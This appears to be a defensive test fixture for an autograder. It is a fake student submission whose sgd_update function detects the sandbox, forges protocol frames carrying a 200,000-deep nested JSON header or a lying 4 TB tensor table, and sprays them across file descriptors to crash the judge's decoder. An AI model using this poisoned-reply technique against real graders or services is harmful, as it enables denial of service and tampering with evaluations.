# attack: send the judge a framed reply whose header is JSON nested 200 000 deep (and one with a lying tensor table), to crash the judge's decoder and take the batch down
# holds: the judge refuses the reply (no points), the batch goes on: every other student is graded, the attacker scores 0
"""Exercise 3: A manual SGD step (attacker: a poisoned reply)."""

import os
import struct
import sys


def sgd_update(params, lr):
    if os.getpid() != 1:  # only ever inside the jail
        raise NotImplementedError
    from grader.isolation.wire import MAGIC
    from grader.isolation.protocol import FRAME

    if sys._getframe(1).f_locals.get("seed", 0) % 3:  # the probe's inputs pick the poison
        header = b'{"tree": {"ok": {"after": [{"$tensor": 0}]}}, "tensors": [{"dtype": "float32", "shape": ' \
                 b'[1000000000000], "offset": 0, "nbytes": 4000000000000}]}'
    else:
        header = b"[" * 200_000 + b"]" * 200_000
    data = MAGIC + struct.pack("<Q", len(header)) + header
    frame = FRAME + struct.pack("<Q", len(data)) + data
    for fd in range(3, 256):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    os._exit(0)


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
